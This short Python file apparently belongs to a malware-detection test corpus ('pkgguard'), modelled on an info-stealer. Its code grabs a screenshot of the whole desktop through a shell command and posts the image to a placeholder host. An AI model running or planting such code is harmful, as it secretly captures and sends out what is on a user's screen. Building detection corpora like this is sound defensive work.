# pkgguard corpus 369 (screenshot), modelled on [stealer-profile]; inert, never run.
import subprocess

import requests

png = subprocess.run("xwd -root -silent | convert xwd:- png:-", shell=True, capture_output=True).stdout
requests.post("https://img.example/x", data=png, headers={"Content-Type": "image/png"}, timeout=10)
